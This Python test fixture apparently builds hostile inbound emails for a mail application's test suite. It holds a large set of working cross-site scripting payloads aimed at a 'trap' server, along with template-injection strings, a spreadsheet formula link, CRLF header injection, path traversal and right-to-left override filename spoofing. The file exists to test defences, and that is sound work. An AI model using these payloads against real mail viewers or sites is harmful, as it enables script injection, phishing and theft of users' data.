"""Mail of somebody who wants a browser to run, load or post something. Everything in it points at a trap server."""

from __future__ import annotations

import base64
import itertools
from collections.abc import Iterator
from typing import Any

from tests.instance import document

OWNED = "__owned"
"""What a script of a mail sets on its window, and on the topmost one."""
OVERRIDE = "\u202e\u2066\u202d"


def script(trap: str, where: str) -> str:
    """JavaScript that cannot be overlooked when it runs."""
    mark = f"window.{OWNED}=top.{OWNED}='{where}'"
    return f"try{{{mark}}}catch(e){{window.{OWNED}='{where}'}};fetch('{trap}/ran-{where}');alert('{where}')"


def short(trap: str, where: str) -> str:
    """For a field of a few hundred characters: breaks out of text, of attributes in both quotes, and of scripts."""
    run = script(trap, where)
    return f'\'"></title></textarea></script><script>{run}</script><img src={trap}/img-{where} onerror="{run}"><b>'


def markup(trap: str, where: str) -> list[str]:
    """One piece of HTML for each thing a browser may be made to do."""
    run = script(trap, where)
    data = base64.b64encode(f"<script>{run}</script>".encode()).decode()
    return [
        f"<script>{run}</script>",
        f"<script src='{trap}/script.js'></script>",
        f"<scr<script>ipt>{run}</scr</script>ipt>",
        f'<img src="{trap}/img" srcset="{trap}/srcset 2x" onerror="{run}" onload="{run}">',
        f'<img src=x onerror="{run}">',
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{run}"><script>{run}</script>'
        f'<image href="{trap}/svg-image"/><use href="{trap}/svg-use#a"/><animate onbegin="{run}" attributeName="x"/>'
        f'<a xlink:href="javascript:{run}"><text>svg link</text></a><foreignObject><iframe src="{trap}/fo"></iframe>'
        "</foreignObject></svg>",
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={run}&gt;">',
        f'<noscript><p title="</noscript><img src=x onerror={run}>"></noscript>',
        f'<iframe src="{trap}/iframe"></iframe><iframe srcdoc="<script>{run}</script>"></iframe>',
        f'<iframe src="javascript:{run}"></iframe><iframe src="data:text/html;base64,{data}"></iframe>',
        f'<object data="{trap}/object"></object><embed src="{trap}/embed"><applet code="{trap}/applet"></applet>',
        f'<video src="{trap}/video" poster="{trap}/poster" autoplay onloadstart="{run}"></video>'
        f'<audio src="{trap}/audio" autoplay></audio><source src="{trap}/source"><track src="{trap}/track">',
        f'<meta http-equiv="refresh" content="0;url={trap}/refresh">',
        '<meta http-equiv="Content-Security-Policy" content="default-src * \'unsafe-inline\'">',
        f'<base href="{trap}/base/" target="_top"><a href="relative">a relative link</a>',
        f'<link rel="stylesheet" href="{trap}/style.css"><link rel="prefetch" href="{trap}/prefetch">'
        f'<link rel="preload" as="image" href="{trap}/preload"><link rel="icon" href="{trap}/icon">'
        f'<link rel="prerender" href="{trap}/prerender"><link rel="dns-prefetch" href="{trap}">',
        f"<style>@import url('{trap}/import.css'); body {{ background: url({trap}/background) }}"
        f" @font-face {{ font-family: f; src: url({trap}/font) }} * {{ font-family: f; position: fixed }}</style>",
        f'<p style="background-image: url({trap}/inline); position: fixed; inset: 0; z-index: 99999">over all</p>',
        f'<table background="{trap}/table"><tr><td background="{trap}/cell">cell</td></tr></table>',
        f'<body background="{trap}/body" onload="{run}" onpageshow="{run}">',
        f'<form action="{trap}/form" method="post"><input name="password" type="password" autofocus onfocus="{run}">'
        f'<button formaction="javascript:{run}">Log in</button><input type="image" src="{trap}/image-input"></form>',
        f'<details open ontoggle="{run}"><summary>open</summary></details><marquee onstart="{run}">m</marquee>',
        f'<a href="javascript:{run}" id="main" name="location">a script link</a>',
        f'<a href=" &#106;ava&#x0A;script:{run}">a hidden script link</a><a href="vbscript:x">vb</a>',
        f'<a href="data:text/html;base64,{data}">a data link</a><a href="cid:dot@1">cid</a><a href="//evil/x">two</a>',
        f'<a href="{trap}/ping-target" ping="{trap}/ping">a plain link</a>',
        '<img src="cid:dot@1"><img src="data:image/svg+xml;base64,'
        + base64.b64encode(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{run}"/>'.encode()).decode()
        + '">',
        f'<input id="q" autofocus onfocus="{run}"><div id="main" contenteditable onfocus="{run}" autofocus>x</div>',
        f"<template><script>{run}</script></template><xmp><script>{run}</script></xmp><plaintext>",
    ]


def answer(trap: str) -> str:
    """What a destination answers that was taken over."""
    return "<html><body>" + short(trap, "answer") + "".join(markup(trap, "answer")[:6])


def mails(trap: str) -> Iterator[tuple[str, dict[str, Any]]]:
    """Documents as the provider posts them, each with a name."""
    yield "everywhere", everywhere(trap)
    for number, piece in enumerate(markup(trap, "html")):
        yield f"html {number}", _html(f"HTML number {number}", f"<p>before</p>{piece}<p>after</p>")
    yield "all html", _html("All HTML at once", "".join(markup(trap, "all")[:-1]))
    for name, subject in subjects(trap):
        yield (
            f"subject {name}",
            document(subject, recipient="hostile@customer.example", message_id=f"<{name}@x.example>"),
        )
    yield "deep", _html("Deep", "<div>" * 20_000 + short(trap, "deep"))
    yield "long text", document("Long text", text="x" * 300_000, recipient="hostile@customer.example")


def subjects(trap: str) -> Iterator[tuple[str, str]]:
    """What may stand in a subject."""
    yield "long", ("A" * 200_000) + short(trap, "long")
    yield "words", "word " * 40_000
    yield "overrides", f"{OVERRIDE}gpj.exe evil {OVERRIDE} יום טוב abc"
    yield "nul", "before\x00after\x1b[2J\x08\x7f\x9b"
    yield "homoglyphs", "Раураl аdmin: уоur ассоunt"
    yield "template", "{{ 7*7 }} {% raw %} ${7*7} <%= 7 %> {{ config }} __proto__"
    yield "combining", "Z" + "͒͝" * 500
    yield "wide", "﷽" * 200
    yield "blank", "\u2028\u2029\u00a0\u200b"
    yield "surrogates", "lone \ud800 surrogate"
    yield "formula", '=HYPERLINK("' + trap + '/formula")'


def everywhere(trap: str) -> dict[str, Any]:
    """The same attack in every field that a document has."""
    count = itertools.count()

    def attack(where: str) -> str:
        return f"{OVERRIDE if next(count) % 2 else ''}{short(trap, where)}"

    headers = [(short(trap, "header-name").replace(":", ";"), attack("header"))]
    headers += [
        (name, attack(name))
        for name in ("References", "X-Mailer", "List-Unsubscribe", "List-Id", "Reply-To", "Date", "Content-Type")
    ]
    headers.append(("List-Unsubscribe-Post", f"javascript:{script(trap, 'unsubscribe')}"))
    body = document(
        attack("subject"),
        text=attack("text") + "\n" + f"javascript:{script(trap, 'line')}\n" * 3,
        recipient="hostile@customer.example",
        message_id=f"<{short(trap, 'message-id').replace('>', '')}@example.org>",
        in_reply_to=f"<{short(trap, 'in-reply-to').replace('>', '')}>",
        headers=tuple(headers),
        attachments=[
            _file(attack("name"), attack("type"), f"<script>{script(trap, 'file')}</script>"),
            _file("page.html", "text/html", f"<script>{script(trap, 'file')}</script>"),
            _file("image.svg", "image/svg+xml", markup(trap, "file")[5]),
            _file(f"../../{OVERRIDE}fdp.exe\r\nX: y", "text/html\r\nX-Header: y", "MZ"),
            _file(f"javascript:{script(trap, 'name')}", "application/javascript", script(trap, "file")),
        ],
    )
    mail = body["Message"]
    mail["From"] = {"EmailAddress": "jo@example.org", "FriendlyName": attack("from")}
    mail["Cc"] = [{"EmailAddress": f'"{short(trap, "cc")}"@example.org', "FriendlyName": attack("cc")}]
    mail["ReplyTo"] = {"EmailAddress": "jo@example.org", "FriendlyName": attack("reply-to")}
    mail["HtmlBody"] = "".join(markup(trap, "everywhere")[:-1])
    body["InboundMailFrom"] = f'"{short(trap, "envelope")}"@example.org'
    body["InboundIpAddress"] = attack("client")
    body["ErrorLog"] = attack("error-log")
    body["SpamDetails"] = attack("spam")
    return body


def _file(name: str, kind: str, content: str) -> dict[str, Any]:
    encoded = base64.b64encode(content.encode()).decode()
    return {"Name": name, "ContentType": kind, "Content": encoded, "ContentId": None}


def _html(subject: str, html: str) -> dict[str, Any]:
    body = document(subject, text=None, recipient="hostile@customer.example")
    body["Message"]["HtmlBody"] = html
    body["Message"]["EmbeddedMedia"] = [
        {"Name": "dot.png", "ContentType": "image/png", "Content": "aGk=", "ContentId": "<dot@1>"}
    ]
    return body
